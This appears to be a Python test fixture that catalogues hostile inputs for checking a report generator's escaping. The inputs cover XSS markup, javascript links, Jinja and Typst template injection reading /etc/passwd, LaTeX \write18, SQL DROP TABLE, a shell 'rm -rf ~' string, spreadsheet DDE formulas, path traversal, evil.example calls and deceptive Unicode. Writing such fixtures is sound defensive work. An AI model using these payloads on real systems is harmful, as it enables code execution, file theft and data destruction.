"""Texts that somebody could send to make a report run, fetch, hide or break something; one of each kind, by name."""

ALERT = "window.alert(document.domain)"
MARKUP = {
    "script": f"<script>{ALERT}</script>",
    "script_end": f"</script></style></title></textarea><script>{ALERT}</script>",
    "comment_end": f"--> ]]> *//*<script>{ALERT}</script>",
    "attribute_end": f"\"><img src=x onerror='{ALERT}'>",
    "apostrophe_end": f"' autofocus onfocus={ALERT} x='",
    "handler": f"<img src=x onerror={ALERT}><details open ontoggle={ALERT}>",
    "svg": f"<svg onload={ALERT}><a xlink:href='javascript:{ALERT}'><text y=9>x</text></a></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}>",
    "frame": "<iframe src='https://evil.example/frame'></iframe><object data='https://evil.example/o'></object>",
    "picture": "<img src='https://evil.example/p.png'><link rel=stylesheet href='https://evil.example/s.css'>",
    "base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": "<form action='https://evil.example/'><button formaction='javascript:alert(1)'>Gửi</button></form>",
    "style": "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
    "entities": "&lt;script&gt;alert(1)&#x3c;/script&#62; &#0; &#x202e;",
}
LINKS = {
    "javascript_link": f"<a href='javascript:{ALERT}'>bấm</a> javascript:{ALERT}",
    "data_link": "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
    "markdown_link": f"[bấm](javascript:{ALERT}) [tệp](file:///etc/passwd)",
    "markdown_title": f'[bấm](https://evil.example "\\" onmouseover=\\"{ALERT}")',
    "markdown_picture": "![ảnh](http://evil.example/a.png)",
    "markdown_autolink": f"<javascript:{ALERT}> <https://evil.example>",
    "markdown_reference": "[x]: javascript:alert(1)",
    "bare_link": "http://evil.example/x mailto:a@evil.example file://evil.example/share internal:A1",
}
CODE = {
    "jinja": "{{ 7*7 }} {{ settings.__class__.__mro__ }}",
    "jinja_block": "{% raw %} {% include '/etc/passwd' %} {# x #}",
    "jinja_set": "{% endraw %}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format": "{0.__class__} {settings} %s %(x)s ${HOME}",
    "typst_read": '#read("/etc/passwd")',
    "typst_import": '#import "/etc/passwd": * #include "../nd30.typ"',
    "typst_string_end": '") #panic("x',
    "typst_marks": "] #panic() [ <label> @ref = a /* b */ // c `d` ~e",
    "formula": "$x$ và $\\href{javascript:alert(1)}{y}$ \\(z\\) $$w$$",
    "latex": "\\input{/etc/passwd} \\write18{id}",
    "fence": "``` \n# Tiêu đề\n---\n| a | b |",
    "sql": "' OR 1=1 -- ; DROP TABLE observations;",
    "shell": "; rm -rf ~ `id` $(id) && id | id",
    "word_field": '{ HYPERLINK "http://evil.example" } { INCLUDETEXT "C:\\\\x" }',
}
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(A1:A9)",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "tab": "\t=1+1",
    "array": "{=1+1}",
    "full_width": "＝1+1",
    "next_cell": "a;=HYPERLINK(1);-1+1",
    "next_line": "a\n=1+1",
    "excel_escape": "_x003D_1+1 _x0000_",
}
PATHS = {
    "up": "../../../../etc/passwd",
    "windows": "C:\\Windows\\..\\..\\x \\\\evil.example\\share",
    "absolute": "/etc/passwd",
}
UNSEEN = {
    "override": "hồ sơ \u202e0001.xslx\u202c",
    "override_left": "\u202dhồ sơ 1234\u202c",
    "isolates": "\u2067a\u2069 \u2066b\u2069 \u2068c\u2069 \u061cd \u200fe",
    "zero_width": "\u200bhồ\u200c \u200dsơ\u2060\ufeff",
    "escape": "\x1b[31mđỏ\x1b[0m\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "controls": "a\x00b\x01c\x07d\x08e\x7ff\x9bg",
    "carriage_return": "Số thật\rSố giả",
    "line_ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "private_use": "\ue0000\ue001 \ue00099\ue001 \uf0b7",
    "noncharacters": "a\ufffeb\uffffc",
    "tags": "a\U000e0041\U000e007fb",
    "annotation": "\ufff9a\ufffab\ufffb",
    "legacy": "H\u00adng Phó, B\u00b8o c\u00b8o",
    "no_font": "中文 ไทย 😀 \U0001f468\u200d\U0001f469 ☑",
    "stacked": "Z\u0335\u0321\u0323\u0353\u0300a\u0336\u0322l\u0337g\u0338o",
    "long_word": "W" * 800,
    "long_text": "rất dài " * 150,
}
PAYLOADS = MARKUP | LINKS | CODE | FORMULAS | PATHS | UNSEEN
